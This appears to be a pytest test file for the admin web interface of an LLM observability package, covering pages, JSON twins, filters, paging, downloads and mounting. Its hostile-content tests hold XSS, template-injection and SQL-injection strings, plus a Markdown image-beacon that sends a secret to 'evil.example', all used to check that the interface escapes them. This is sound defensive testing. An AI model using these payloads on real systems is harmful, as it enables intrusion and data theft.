"""The pages: what they show, what their twins say, and where their links lead."""

import asyncio
import json
import re
import threading
import time
from collections.abc import Iterator
from contextlib import AbstractContextManager
from dataclasses import replace
from typing import Any, NamedTuple
from urllib.parse import parse_qs, quote, urljoin, urlsplit

import pytest
import trio
from markupsafe import escape as jinja
from sqlalchemy import Connection
from starlette.applications import Starlette
from starlette.routing import Mount

from asgi_llmobs import LLMObs, LLMObsMiddleware
from asgi_llmobs.admin import Admin, Page, Permission
from asgi_llmobs.auth import allow
from asgi_llmobs.store.database import Database
from asgi_llmobs.store.write import Sink
from tests.admin.reading import Reader, read
from tests.admin.seeding import canaries, fill
from tests.admin.visiting import Answer, Visitor, exchange, loop
from tests.making import SECOND, START, body, request, span

LISTS = ("requests", "traces", "sessions")


class Site(NamedTuple):
    """A filled store, its owner in front of the admin, and the records in it."""

    visitor: Visitor
    database: Database
    records: dict[str, Any]

    def read(self, path: str) -> Reader:
        answer = self.visitor.get(path)
        assert answer.status == 200, (path, answer.status)
        return read(answer.text)

    def twin(self, path: str) -> Any:
        path, mark, query = path.partition("?")
        answer = self.visitor.get(("/index" if path == "/" else path) + ".json" + mark + query)
        assert answer.status == 200, (path, answer.status, answer.text)
        return answer.json


def everybody(request: Any) -> str:
    return "owner"


def site_of(database: Database, **records: Any) -> Site:
    return Site(Visitor(Admin(database=database, auth=everybody, environ={})), database, records)


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    """Read only: tests that write make their own."""
    database = Database("sqlite://")
    yield site_of(database, **fill(database))
    database.dispose()


@pytest.fixture
def empty(database: Database) -> Site:
    """Nothing captured yet, or what the test writes itself."""
    return site_of(database)


def keep(site: Site, *records: Any) -> None:
    assert Sink(site.database).write(records).refused == 0


class TestTwins:
    """A page and its JSON twin say the same."""

    def test_requests(self, site: Site) -> None:
        """The list, newest first, with the numbers of each row."""
        page, twin = site.read("/requests"), site.twin("/requests")
        names = ("alone", "second", "first")

        assert page.rows() == [row["id"] for row in twin["rows"]] == [site.records[name].id for name in names]
        assert twin["count"] == 3 and "3 of 3" in page.text
        for row in twin["rows"]:
            record = next(each for each in site.records.values() if each.id == row["id"])
            assert (row["outcome"], row["status"]) == (record.outcome, record.status)
            assert row["cost_usd"] == float(record.cost_usd) and row["start_ns"] == record.start_ns
            assert row["request_model"] in page.text and row["input_preview"] in page.text
        assert "$0.00015" in page.text

    def test_request(self, site: Site) -> None:
        """One request: ids, times, tokens, cost and conversation."""
        record = site.records["second"]
        page, twin = site.read(f"/requests/{record.id}"), site.twin(f"/requests/{record.id}")
        shown = twin["request"]

        assert (shown["id"], shown["trace_id"], shown["session_id"]) == (record.id, record.trace_id, "trip-1")
        assert (twin["latency_ms"], twin["time_to_first_token_ms"]) == (1000.0, 250.0)
        assert shown["usage"]["input_tokens"] == 20 and sum(twin["buckets"].values()) == 30
        assert (shown["cost"]["amount"], twin["trace"]["node_count"]) == (0.00015, 2)
        assert [turn["role"] for turn in twin["conversation"]] == ["user", "assistant"]
        for text in (record.id, "What is the capital of France?", "Paris, of course.", "1.00 s", "250 ms", "$0.00015",
                     record.response_id, twin["formula"], "gpt-4o-2024-08-06"):  # fmt: skip
            assert text in page.text, text
        neighbours = [site.records["alone"].id, site.records["first"].id]
        assert [twin["newer_id"], twin["older_id"]] == neighbours
        assert [(page.link(rel) or "").rsplit("/", 1)[1] for rel in ("prev", "next")] == neighbours

    @pytest.mark.parametrize("name", ["request_id", "response_id", "provider_request_id"])
    def test_request_by_any_id(self, site: Site, name: str) -> None:
        """Whatever id somebody has in hand leads to the request."""
        record = site.records["first"]

        assert site.twin(f"/requests/{getattr(record, name)}")["request"]["id"] == record.id

    def test_a_request_that_failed(self, site: Site) -> None:
        """Error, code, attempts and the waits between them."""
        record = site.records["first"]
        page, twin = site.read(f"/requests/{record.id}"), site.twin(f"/requests/{record.id}")

        assert [attempt["status"] for attempt in twin["request"]["attempts"]] == [429, 400]
        for text in ("invalid_request_error", "HTTP 400", "code bad", "Tool call", "look_up", "Attempts", "429"):
            assert text in page.text, text

    def test_traces(self, site: Site) -> None:
        """The list of traces, with counts and totals."""
        page, twin = site.read("/traces"), site.twin("/traces")

        assert page.rows() == [row["trace_id"] for row in twin["rows"]]
        (row,) = (row for row in twin["rows"] if row["trace_id"] == "ab" * 16)
        assert (row["name"], row["node_count"], row["span_count"], row["error_count"]) == ("POST /chat", 2, 4, 2)
        assert row["success_rate"] == 0.5 and "50 %" in page.text and "POST /chat" in page.text

    def test_trace(self, site: Site) -> None:
        """The tree, and the node that the address names."""
        records, path = site.records, "/traces/" + "ab" * 16
        page, twin = site.read(path), site.twin(path)

        assert {node["id"] for node in twin["nodes"]} == {
            records[name].id for name in ("root", "tool", "first", "second")
        }
        assert [node["depth"] for node in twin["nodes"]] == [1, 2, 2, 2]
        shown = [attrs["href"] for tag, attrs in page.tags if "data-open" in attrs]
        assert [parse_qs(urlsplit(href).query)["node"][0] for href in shown] == [node["id"] for node in twin["nodes"]]
        assert twin["trace"]["node_count"] == 2 and "2 of 4 spans" in page.text
        assert twin["selected"]["id"] == records["first"].id
        for name in ("tool", "second"):
            assert site.twin(f"{path}?node={records[name].id}")["selected"]["id"] == records[name].id
        assert site.twin(f"{path}?node=nothing")["selected"]["id"] == records["first"].id

    def test_sessions(self, site: Site) -> None:
        """The list of sessions, and one of them in order, each turn with what is new."""
        page, twin = site.read("/sessions"), site.twin("/sessions")
        assert page.rows() == [row["session_id"] for row in twin["rows"]] == ["trip-1"]
        (row,) = twin["rows"]
        assert (row["name"], row["user_id"], row["request_count"], row["error_count"]) == ("Trip", "ada", 2, 1)

        page, twin = site.read("/sessions/trip-1"), site.twin("/sessions/trip-1")
        ids = [site.records[name].id for name in ("first", "second")]
        assert [step["row"]["id"] for step in twin["steps"]] == ids == page.rows()
        assert twin["session"]["request_count"] == 2 and "Paris, of course." in page.text
        assert twin["steps"][1]["idle_ns"] and "idle" in page.text

    def test_overview(self, site: Site) -> None:
        """Totals over all, and the newest requests."""
        page, twin = site.read("/"), site.twin("/")
        totals = twin["total"]

        assert (totals["requests"], totals["errors"], totals["input_tokens"]) == (3, 1, 60)
        assert totals["total_cost_usd"] == pytest.approx(0.00045) and "$0.00045" in page.text
        assert [row["id"] for row in twin["newest"]] == site.twin("/requests")["filter"] or page.rows()

    def test_status(self, database: Database) -> None:
        """Counters and their sum, and what the store holds."""
        fill(database)
        stats = {"captured": 7, "stored": 4, "spooled": 1, "dropped": {"cap": 2}, "failures": {}, "last_error": None}
        visitor = Visitor(Admin(database=database, stats=lambda: stats, auth=everybody, environ={}))
        page, twin = read(visitor.get("/status").text), visitor.get("/status.json").json

        assert twin["balanced"] is True and twin["stats"] == stats
        assert (twin["store"]["requests"], twin["store"]["spans"], twin["store"]["sessions"]) == (3, 5, 1)
        assert "captured = stored + waiting + dropped" in page.text and "dropped: cap" in page.text
        stats["stored"] = 5
        assert "do not add up" in visitor.get("/status").text

    @pytest.mark.parametrize("path", ["/", "/requests", "/traces", "/sessions", "/status", "/sessions/trip-1"])
    def test_page_names_its_twin(self, site: Site, path: str) -> None:
        """The link at the foot leads to the same view as JSON, filter included."""
        query = "?since=90d" if path[1:] in LISTS else ""
        address = f"http://h{path}{query}"
        (href,) = (href for href in site.read(path + query).links() if ".json" in href)
        twin = urlsplit(urljoin(address, href))

        named, own = site.visitor.get(f"{twin.path}?{twin.query}").json, site.twin(path + query)
        for each in (named, own):
            each.pop("now_ns", None)  # what ages are counted from
        assert named == own

    def test_what_is_unknown_is_not_zero(self, empty: Site) -> None:
        """No price and no usage are said in words, in JSON they are null."""
        from asgi_llmobs.records import Cost

        keep(empty, request(usage=None, usage_raw=None, cost=Cost(reason="model unknown"), session_id="s",
                            response_body=None, duration_ns=None, outcome="running"))  # fmt: skip
        (row,) = empty.twin("/requests")["rows"]
        page = empty.read(f"/requests/{row['id']}")

        assert row["cost_usd"] is None and row["input_tokens"] is None and row["duration_ns"] is None
        for text in (page.text, empty.read("/requests").text, empty.read("/sessions/s").text, empty.read("/").text):
            assert "no price" in text and "$0" not in text
        assert "model unknown" in page.text and "does not say how many tokens" in page.text


class TestFilters:
    """All that narrows a list down is in its address."""

    @pytest.mark.parametrize(
        ("query", "count"),
        [
            ("", 3),
            ("model=gpt-4o", 2),
            ("model=gpt*", 2),
            ("model=gpt-4o,claude-haiku", 3),
            ("model=gpt-4o&model=claude-haiku", 3),
            ("status=error", 1),
            ("status=400", 1),
            ("status=4xx,ok", 3),
            ("user=ada", 2),
            ("user=eve", 0),
            ("session=trip-1", 2),
            ("property=plan%3Dpro", 2),
            ("property=plan%3Apro", 2),
            ("property.plan=pro", 2),
            ("property.plan=free", 0),
            ("route=/chat", 0),
            ("q=Paris", 1),
            ("q=%22capital+of%22", 1),
            ("q=nowhere", 0),
            ("q=&model=&status=+", 3),
            ("min_latency=0.5", 3),
            ("min_latency=1.5", 0),
            ("max_cost=0.0001", 0),
            (f"since={START // SECOND + 1}", 2),
            (f"until={START // SECOND + 1}", 1),
            ("since=1s", 0),
            ("operation=chat&provider=openai&status=ok", 2),
            (f"trace={'ab' * 16}", 2),
        ],
    )
    def test_requests(self, site: Site, query: str, count: int) -> None:
        """The filter finds what it should, and page and twin agree on it."""
        page, twin = site.read(f"/requests?{query}"), site.twin(f"/requests?{query}")

        assert twin["count"] == len(twin["rows"]) == len(page.rows()) == count
        assert bool(count) or "match" in page.text

    @pytest.mark.parametrize("query", ["since=9999-12-31", "until=9999-12-31"])
    def test_the_ends_of_time(self, site: Site, query: str) -> None:
        """Whole steps of a chart lie around the range: also around one that ends where no number goes on."""
        for path in ("/", "/properties", "/endpoints", "/models", "/users", "/requests", "/insights", "/scores"):
            assert site.visitor.get(f"{path}?{query}").status == 200, path

    @pytest.mark.parametrize("slug", LISTS)
    def test_the_form_shows_what_is_in_force(self, site: Site, slug: str) -> None:
        """The bar says all but the time, how the list is shown goes along, and each condition can be taken away."""
        query = "model=gpt-4o&model=x&status=ok&property.plan=pro&property.b=c&max_cost=3&q=Paris&since=3d&limit=5"
        page = site.read(f"/{slug}?{query}")

        search = page.field("q")
        assert search == "model:(gpt-4o OR x) status:ok property.plan:pro property.b:c Paris cost:<=3"
        selected = [attrs["value"] for tag, attrs in page.tags if tag == "option" and "selected" in attrs]
        assert selected == ["3d"] and page.field("limit") == "5"
        again = site.read(f"/{slug}?q={quote(search)}&since=3d&limit=5")
        assert again.field("q") == search
        assert site.twin(f"/{slug}?q={quote(search)}&limit=5")["rows"] == site.twin(f"/{slug}?{query[:-8]}")["rows"]
        removed = [parse_qs(urlsplit(href).query) for href in page.links() if urlsplit(href).path.endswith(slug)]
        assert any("status" not in each and each.get("q") == ["Paris"] for each in removed)
        assert any(each.get("model") == ["x"] for each in removed)

    @pytest.mark.parametrize("slug", LISTS)
    @pytest.mark.parametrize(
        ("query", "field"),
        [
            ("nothing=1", "nothing"),
            ("project=other", "project"),
            ("status=fine", "status"),
            ("status=999", "status"),
            ("since=someday", "since"),
            ("since=-1", "since"),
            ("until=2026-13-45", "until"),
            ("since=1h&until=2h", "until"),
            ("kind=robot", "kind"),
            ("min_cost=cheap", "min_cost"),
            ("min_cost=-1", "min_cost"),
            ("max_latency=nan", "max_latency"),
            ("min_latency=inf", "min_latency"),
            ("property=plan", "property"),
            ("property==pro", "property"),
            ("property.=pro", "property."),
            ("limit=0", "limit"),
            ("limit=201", "limit"),
            ("limit=x", "limit"),
            ("limit=-5", "limit"),
            ("limit=1e2", "limit"),
            ("limit=%D9%A3", "limit"),
            ("limit=0000000019999", "limit"),
            ("limit=1" + "0" * 5000, "limit"),
            ("cursor=nonsense", "cursor"),
            ("cursor=%00", "cursor"),
            ("cursor=" + "A" * 40, "cursor"),
            ("model=" + "x" * 5000, "model"),
            ("&".join(f"user={number}" for number in range(101)), "user"),
            ("%3Cscript%3E=1", "<script>"),
        ],
    )
    def test_malformed(self, site: Site, slug: str, query: str, field: str) -> None:
        """What is not understood is said with its field, on the page and in JSON, and no rows are shown."""
        twin, page = site.visitor.get(f"/{slug}.json?{query}"), site.visitor.get(f"/{slug}?{query}")

        assert (twin.status, page.status) == (422, 422)
        assert twin.json["field"] == field and twin.json["detail"].startswith(f"{field}:")
        assert field in read(page.text).text and "<script>1" not in page.text
        assert "trip-1" not in page.text.split("<h1>")[1]

    @pytest.mark.parametrize("page", ["0", "2", "-1", "x", "1.0", "9" * 5000, "%D9%A1"])
    def test_malformed_page_of_a_session(self, site: Site, page: str) -> None:
        """A session has so many pages and no others."""
        answer = site.visitor.get(f"/sessions/trip-1.json?page={page}")

        assert (answer.status, answer.json["field"]) == (422, "page")

    @pytest.mark.parametrize(
        "text", ["' OR 1=1 --", '"?"', "*", "a*", "NEAR(a b)", '"a AND"', "%", "_", "\\", '"("', "a:b", "^", "é", "🙂",
         "x" * 400],
    )  # fmt: skip
    def test_any_text_can_be_searched(self, site: Site, text: str) -> None:
        """No search is an error, none is a pattern, and none is SQL."""
        for slug in LISTS:
            assert site.visitor.get(f"/{slug}.json?q={quote(text)}").json["count"] == 0

    @pytest.mark.parametrize(("text", "position"), [('"', 0), ("a AND", 2), ("Hi (", 3), ("Hi cost:much", 3)])
    def test_what_is_wrong_with_a_search_is_said(self, site: Site, text: str, position: int) -> None:
        """A search that is not understood says why and where, on the page beside its text."""
        answer = site.visitor.get(f"/requests.json?q={quote(text)}")
        page = site.visitor.get(f"/requests?q={quote(text)}")

        assert (answer.status, answer.json["position"]) == (422, position)
        assert page.status == 422 and f'name="q" value="{jinja(text)}"' in page.text

    @pytest.mark.parametrize("value", ["%", "_______", "trip__", "' OR '1'='1", "trip-1' --", "\\", "*"])
    def test_values_are_no_patterns(self, site: Site, value: str) -> None:
        """A session or a user is met exactly."""
        for name in ("session", "user", "property.plan", "provider", "operation"):
            assert site.twin(f"/requests?{name}={quote(value)}")["count"] == 0


class TestPaging:
    """Lists page by keyset, forth and back."""

    @pytest.fixture
    def many(self, empty: Site) -> Site:
        """Seven requests, traces and sessions; three of them in the same nanosecond."""
        keep(
            empty,
            *(
                request(start_ns=START + max(number, 2) * SECOND, session_id=f"s-{number}", user_id="ada")
                for number in range(7)
            ),
        )
        return empty

    @pytest.mark.parametrize("slug", LISTS)
    def test_forth_and_back(self, many: Site, slug: str) -> None:
        """Following the links of the page shows each row once, and leads back the same way; the filter stays."""
        whole = many.read(f"/{slug}").rows()
        address: str | None = f"/{slug}?user=ada&limit=3"
        forth: list[list[str]] = []
        while address is not None:
            page = many.read(address)
            assert page.field("q") == "user:ada"
            forth.append(page.rows())
            last, href = address, page.link("next")
            address = None if href is None else urljoin(address, href)
        assert [len(rows) for rows in forth] == [3, 3, 1] and sum(forth, []) == whole and len(set(whole)) == 7

        back, address = [], last
        while address is not None:
            page = many.read(address)
            back.append(page.rows())
            href = page.link("prev")
            address = None if href is None else urljoin(address, href)
        assert back[-3:] == forth[::-1][-3:] and len(back) == 3

    @pytest.mark.parametrize("slug", LISTS)
    def test_new_rows_do_not_shift_pages(self, many: Site, slug: str) -> None:
        """What arrives while somebody reads pushes nothing from one page to the next."""
        before = many.twin(f"/{slug}?limit=3")
        second = many.twin(f"/{slug}?limit=3&cursor={before['next_cursor']}")
        keep(many, *(request(start_ns=START + 99 * SECOND, session_id=f"new-{number}") for number in range(5)))

        assert many.twin(f"/{slug}?limit=3&cursor={before['next_cursor']}")["rows"] == second["rows"]

    def test_cursor_of_another_list(self, many: Site) -> None:
        """A cursor of traces is none of requests."""
        cursor = many.twin("/traces?limit=3")["next_cursor"]

        assert many.visitor.get(f"/requests.json?cursor={cursor}").status == 422

    def test_a_long_session(self, empty: Site) -> None:
        """A session of many requests has pages, and each request stands on one of them."""
        keep(empty, *(request(start_ns=START + number, session_id="long") for number in range(45)))
        first, second = empty.read("/sessions/long"), empty.read("/sessions/long?page=2")

        assert (len(first.rows()), len(second.rows())) == (25, 20)
        assert len(set(first.rows() + second.rows())) == 45
        assert (first.link("next") or "").endswith("?page=2") and (second.link("prev") or "").endswith("?page=1")


@pytest.mark.parametrize("path", ["/", "/requests", "/traces", "/sessions", "/status"])
def test_empty_store(empty: Site, path: str) -> None:
    """Before the first call each page opens and says what to do."""
    page = empty.read(path)
    words = {"/": "Nothing captured yet", "/status": "What is captured"}

    assert words.get(path, f"No {path[1:]} yet") in page.text
    assert not page.rows()


class TestHostileContent:
    """Prompts, answers and names are text, whatever stands in them."""

    def everywhere(self, site: Site, *records: Any) -> list[tuple[str, str]]:
        """Every page on which the records can stand, as path and HTML."""
        paths = ["/", *(f"/{slug}" for slug in LISTS), "/status"]
        for each in records:
            paths.append(f"/traces/{each.trace_id}?node={each.id}")
            if hasattr(each, "messages"):
                paths.append(f"/requests/{each.id}")
        paths += [urljoin("/sessions", href) for href in read(site.visitor.get("/sessions").text).links()
                  if "/sessions/" in urljoin("/sessions", href)]  # fmt: skip
        found = []
        for path in paths:
            answer = site.visitor.get(path)
            assert answer.status == 200, (path, answer.status)
            found.append((path, answer.text))
        return found

    @pytest.mark.parametrize(
        "marker",
        ["<x-canary>", "\"'><x-canary a=\"", "</script><x-canary>", "</textarea></title><x-canary>", "<!--<x-canary>",
         "&lt;x-canary&gt;", "{{7*7}}{%x%}<x-canary>", "<svg/onload=x><x-canary>"],
    )  # fmt: skip
    def test_canaries_in_every_field(self, empty: Site, marker: str) -> None:
        """No text makes an element or an attribute, wherever it stands."""
        call, work = canaries(marker)
        keep(empty, call, work)
        seen = 0
        for path, text in self.everywhere(empty, call, work):
            page = read(text)
            for tag, attrs in page.tags:
                assert tag not in ("x-canary", "iframe", "object", "embed", "video", "audio"), (path, tag)
                assert not any(name.startswith(("on", "x-canary")) for name in attrs), (path, attrs)
            assert "49" not in page.text or "{{" not in marker or "{{7*7}}" in page.text
            seen += text.count("x-canary")
        assert seen > 60

    def test_nothing_is_fetched_from_elsewhere(self, empty: Site) -> None:
        """Pictures and links of Markdown and HTML stay text: reading a prompt tells nobody that it was read."""
        bait = (
            "![pixel](https://evil.example/p.png?d=secret) [click](javascript:alert(1)) <img src=//evil.example/i> "
            "<link rel=stylesheet href=//evil.example/c> <a href='data:text/html,x'>x</a> [r]: https://evil.example/r "
            "<https://evil.example/auto> https://evil.example/plain <style>@import 'https://evil.example/s'</style> "
        )
        call, work = canaries(bait)
        keep(empty, call, work)
        for path, text in self.everywhere(empty, call, work):
            for address in read(text).addresses():
                parts = urlsplit(address)
                assert not parts.scheme and not parts.netloc, (path, address)
            assert "<style" not in text and "url(" not in text

    def test_what_turns_the_reading_direction(self, empty: Site) -> None:
        """Control characters of the reading direction stay inside the element that holds them."""
        keep(empty, request("\u202eevil\u2066", session_id="\u202ex", user_id="\u2067u"))
        text = empty.visitor.get("/requests").text

        for found in re.finditer("[\u202e\u2066\u2067]", text):
            before = text[: found.start()]
            inside = before.rfind("<bdi") > before.rfind("</bdi>") or before.rfind("<") > before.rfind(">")
            assert inside, text[found.start() - 80 : found.end() + 20]

    def test_lone_surrogates_and_controls(self, empty: Site) -> None:
        """Broken text is shown as far as it goes; neither page nor twin fails."""
        call, work = canaries("\x00\x1b[31m\uffff")
        broken = {"session_name": "a\ud800", "error_message": "\udfff", "properties": {"\ud800": "\ud800"}}
        call = replace(call, warnings=("\ud800",), parameters={"stop": "\ud800"}, **broken)
        keep(empty, call, replace(work, **broken))
        for path, _ in self.everywhere(empty, call, work):
            path, mark, query = path.partition("?")
            json.loads(empty.visitor.get(f"{'/index' if path == '/' else path}.json{mark}{query}").content)

    ODD = (
        ["a/b", "..", ".", "x.json", "ü ß", "a b?c=d#e&f", "~tilde", "%2e%2e", "a%2Fb", "\\", "a;b", "x" * 400, "-",
         "🙂",
         "javascript:alert(1)", "//evil.example", "'\"><b>"]
    )  # fmt: skip

    @pytest.mark.slow
    def test_odd_names_have_addresses(self, empty: Site) -> None:
        """A session, a user and a property of any name can be opened from the list."""
        keep(empty, *(request(session_id=id, user_id=id, properties={id: id}) for id in self.ODD))
        opened: set[str] = set()
        for page in ("/requests", "/sessions"):
            links = [urljoin(f"http://h{page}", href) for href in empty.read(page).links()]
            found = {link for link in links if link.startswith(("http://h/sessions/", "http://h/requests?"))}
            assert len(found) >= len(self.ODD), page
            opened |= found
        for link in sorted(opened):
            answer = empty.visitor.get(link.removeprefix("http://h"))
            assert answer.status == 200 and "No requests match" not in answer.text, link

    def test_sparse_records(self, empty: Site) -> None:
        """Tools without a description, errors without a type, calls without anything: every page still opens."""
        least = request(
            tools=({"type": "web_search"}, {"name": "a"}), error={"message": "no"}, outcome="error", parameters={},
            request_body=None, response_body=None, messages=(), usage=None, url=None, method=None, status=None,
            request_model=None, response_model=None, name="", session_id="s",
        )  # fmt: skip
        hosted = request(request_body=body({"model": "m", "messages": [], "tools": [{"type": "web_search"}]}))
        keep(empty, least, hosted, span(id="9" * 16, name="", duration_ns=None, outcome="running"))

        assert len(self.everywhere(empty, least, hosted, span(id="9" * 16))) >= 10


class TestDownloads:
    """Bodies are handed out as they came, and never opened by the browser."""

    @pytest.mark.parametrize(
        ("content", "media_type", "name"),
        [
            (b'{"a": 1}', "application/json", "response-body.txt"),
            (b"<script>alert(1)</script>", "text/html", "response-body.txt"),
            (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml", "response-body.txt"),
            (b"\x89PNG\r\n\x1a\n\0\0", "image/png", "response-body.bin"),
            (b"x", 'text/plain"; filename="evil.html\r\nset-cookie: a=b', "response-body.txt"),
            ("﻿=1+1 é".encode(), None, "response-body.txt"),
        ],
    )
    def test_response(self, empty: Site, content: bytes, media_type: str, name: str) -> None:
        """The very bytes, as an attachment under a name of ours, whatever its media type claims."""
        one = request(response_body=body(content, media_type))
        keep(empty, one)
        answer = empty.visitor.get(f"/requests/{one.id}/response-body")

        assert answer.content == content
        assert answer.header("content-disposition") == f'attachment; filename="{name}"'
        assert answer.header("content-type") == "application/octet-stream"
        assert "sandbox" in answer.header("content-security-policy") and not answer.header("set-cookie")

    def test_request(self, site: Site) -> None:
        """The request's body too, from the link on its page."""
        record = site.records["first"]
        (href,) = (href for href in site.read(f"/requests/{record.id}").links() if href.endswith("request-body"))
        answer = site.visitor.get(urljoin(f"/requests/{record.id}", href))

        assert answer.content == record.request_body.content
        assert 'filename="request-body.txt"' in answer.header("content-disposition")

    def test_what_is_not_stored(self, empty: Site) -> None:
        """No body, no download, and no link to one."""
        one = request(request_body=None, response_body=None)
        keep(empty, one)

        assert not [href for href in empty.read(f"/requests/{one.id}").links() if "body" in href]
        for part in ("request", "response"):
            assert empty.visitor.get(f"/requests/{one.id}/{part}-body").status == 404


class Place(NamedTuple):
    """How the admin is served: what a browser asks for, and what arrives at the app."""

    app: Any
    outside: str  # the address of the mount in the browser, without its slash
    arrives: str = ""  # what stands in front of the path when it arrives
    root_path: str = ""


def places(database: Database) -> dict[str, Place]:
    """Every way to serve the admin that DESIGN promises to work."""
    admin = Admin(database=database, auth=everybody, environ={})
    mounted = Starlette(routes=[Mount("/_llmobs", admin)])
    nested = Starlette(routes=[Mount("/internal", Starlette(routes=[Mount("/llm", admin)]))])
    engine = LLMObs("sqlite://", auth=allow(everybody), instrument="off")
    engine._database = database
    middle = LLMObsMiddleware(Starlette(), obs=engine)
    return {
        "alone": Place(admin, ""),
        "mounted": Place(mounted, "/_llmobs", "/_llmobs"),
        "nested": Place(nested, "/internal/llm", "/internal/llm"),
        "root path in the path": Place(mounted, "/api/_llmobs", "/api/_llmobs", "/api"),
        "root path beside the path": Place(mounted, "/api/_llmobs", "/_llmobs", "/api"),
        "nested, root path in the path": Place(nested, "/v1/api/internal/llm", "/v1/api/internal/llm", "/v1/api"),
        "alone, root path in the path": Place(admin, "/tools", "/tools", "/tools"),
        "prefix stripped by a proxy": Place(mounted, "/ops/llm/_llmobs", "/_llmobs"),
        "another prefix put in by a proxy": Place(mounted, "/x", "/_llmobs"),
        "middleware": Place(middle, "/_llmobs", "/_llmobs"),
        "middleware, root path in the path": Place(middle, "/api/_llmobs", "/api/_llmobs", "/api"),
        "middleware, root path beside the path": Place(middle, "/api/_llmobs", "/_llmobs", "/api"),
        "middleware, prefix stripped by a proxy": Place(middle, "/ops/llm/_llmobs", "/_llmobs"),
    }


USUAL = (
    "alone",
    "mounted",
    "nested, root path in the path",
    "prefix stripped by a proxy",
    "another prefix put in by a proxy",
    "middleware",
    "middleware, root path beside the path",
)


class TestMounts:
    """Every address on every page is relative, so it works wherever the admin stands."""

    @pytest.fixture
    def database(self) -> Iterator[Database]:
        made = Database("sqlite://")
        fill(made)
        keep(site_of(made), request(session_id="a/b é"))
        yield made
        made.dispose()

    @pytest.mark.slow
    def test_no_address_is_absolute(self, database: Database) -> None:
        """Nothing on any page begins with a slash or a scheme."""
        visitor, seen = Visitor(Admin(database=database, auth=everybody, environ={})), set()
        waiting = ["/", "/nothing", "/requests?limit=x", "/requests?limit=1"]
        while waiting:
            path = waiting.pop()
            if path in seen or len(seen) > 150:
                continue
            seen.add(path)
            answer = visitor.get(path)
            if not answer.header("content-type").startswith("text/html"):
                continue
            page = read(answer.text)
            for address in page.addresses():
                assert re.match(r"(\./|\.\./|#|$)", address), (path, address)
            waiting += [urljoin(path, href).partition("#")[0] for href in page.links()]
        assert len(seen) > 40

    @pytest.mark.parametrize(
        "name",
        [
            name if name in USUAL else pytest.param(name, marks=pytest.mark.long)
            for name in places(Database("sqlite://"))
        ],
    )
    def test_every_link_leads_to_a_page(self, database: Database, name: str) -> None:
        """From the address without its slash on, each link, file and form of each page stays below the mount."""
        place = places(database)[name]
        visitor = Visitor(place.app, root_path=place.root_path)

        def fetch(address: str) -> Answer:
            path = address.removeprefix("http://h")
            assert path == place.outside or path.startswith(place.outside + "/"), (address, place.outside)
            return visitor.get(place.arrives + path.removeprefix(place.outside))

        address = f"http://h{place.outside}/"
        answer = fetch(address[:-1]) if place.outside else None
        if answer is not None and answer.status != 307:  # that of Starlette's own router
            assert answer.status == 303 and urljoin(address[:-1], answer.location) == address
        seen: set[str] = set()
        kinds: dict[str, int] = {}
        waiting = [address]
        while waiting:
            address = waiting.pop(0)
            kind = re.sub(r"/(requests|traces|sessions)/[^/?]+", r"/\1/ID", address).partition("?")[0]
            if address in seen or kinds.get(kind, 0) >= (2 if name == "alone" else 1):
                continue
            seen.add(address)
            kinds[kind] = kinds.get(kind, 0) + 1
            answer = fetch(address)
            assert answer.status == 200, (address, answer.status)
            if answer.header("content-type").startswith("text/html"):
                page = read(answer.text)
                waiting += [urljoin(address, each).partition("#")[0] for each in page.addresses() if each]
        below = {kind.removeprefix(f"http://h{place.outside}") for kind in kinds}
        assert below >= {"/", "/requests", "/requests/ID", "/traces/ID", "/sessions/ID", "/status", "/requests.json",
                         "/requests/ID/request-body", "/index.json"}  # fmt: skip
        assert sum("/static/" in kind for kind in kinds) >= 3

    def test_slash_at_the_end(self, database: Database) -> None:
        """The redirect that takes a slash away lands on the page, not above the mount."""
        for name, place in places(database).items():
            visitor = Visitor(place.app, root_path=place.root_path)
            answer = visitor.get(f"{place.arrives}/requests/?limit=2")

            assert urljoin(f"http://h{place.outside}/requests/", answer.location) == (
                f"http://h{place.outside}/requests?limit=2"
            ), name


class TestServing:
    """How the admin runs inside the app's event loop."""

    @pytest.mark.parametrize("path", ["/", "/requests", "/requests.json", "/traces/" + "ab" * 16, "/sessions/trip-1",
                                      "/status", "/nothing"])  # fmt: skip
    def test_trio(self, site: Site, path: str) -> None:
        """The same answer on trio as on asyncio."""
        scope = site.visitor.request("GET", path)
        one, other = trio.run(exchange, site.visitor.app, dict(scope)), site.visitor.get(path)

        assert one.status == other.status
        nonce = re.compile(r'nonce="[^"]*"')
        if "json" in path:
            assert one.json == other.json
        elif path != "/status":
            assert nonce.sub("", one.text) == nonce.sub("", other.text)

    def test_queries_run_in_threads(self, database: Database, monkeypatch: pytest.MonkeyPatch) -> None:
        """Neither a page nor the lock ever touches the store on the event loop."""
        from asgi_llmobs.auth import token

        records, inside = fill(database), []
        original = Database._connection

        def watched(self: Database, **how: Any) -> AbstractContextManager[Connection]:
            inside.append(threading.current_thread() is threading.main_thread())
            return original(self, **how)

        monkeypatch.setattr(Database, "_connection", watched)
        visitor = Visitor(Admin(database=database, auth=token("a long enough secret"), environ={}))
        visitor.get("/login")
        visitor.post("/login", {"secret": "a long enough secret"})
        for path in ("/", "/requests", "/traces", "/sessions/trip-1", "/status", f"/requests/{records['first'].id}"):
            assert visitor.get(path).status == 200
        visitor.post("/logout")
        Visitor(Admin(database=database, environ={})).get("/login")

        assert len(inside) > 10 and not any(inside)

    def test_the_loop_goes_on(self, database: Database) -> None:
        """While slow pages are made, the app's other work runs; at most four are made at once."""
        running, most, lock = 0, 0, threading.Lock()

        def load(view: Any) -> dict[str, Any]:
            nonlocal running, most
            with lock:
                running += 1
                most = max(most, running)
            time.sleep(0.1)
            with lock:
                running -= 1
            return {}

        admin = Admin(database=database, auth=everybody, environ={})
        admin.routes = (
            Page(slug="slow", title="S", template="pages/error.html", load=load, permission=Permission.VIEW),
        )
        visitor = Visitor(admin)

        async def main() -> float:
            async def beat() -> float:
                worst = 0.0
                while True:
                    before = time.perf_counter()
                    await asyncio.sleep(0.005)
                    worst = max(worst, time.perf_counter() - before)
                    if pages.done():
                        return worst

            calls = (exchange(admin, visitor.request("GET", "/slow.json")) for _ in range(8))
            pages = asyncio.gather(*calls)
            worst = await beat()
            assert {answer.status for answer in await pages} == {200}
            return worst

        assert loop.run(main()) < 0.09
        assert most == 4

    def test_lifespan(self, site: Site) -> None:
        """Served on its own, the admin answers the server's start and stop."""
        waiting, sent = [{"type": "lifespan.startup"}, {"type": "lifespan.shutdown"}], []

        async def receive() -> dict[str, str]:
            return waiting.pop(0)

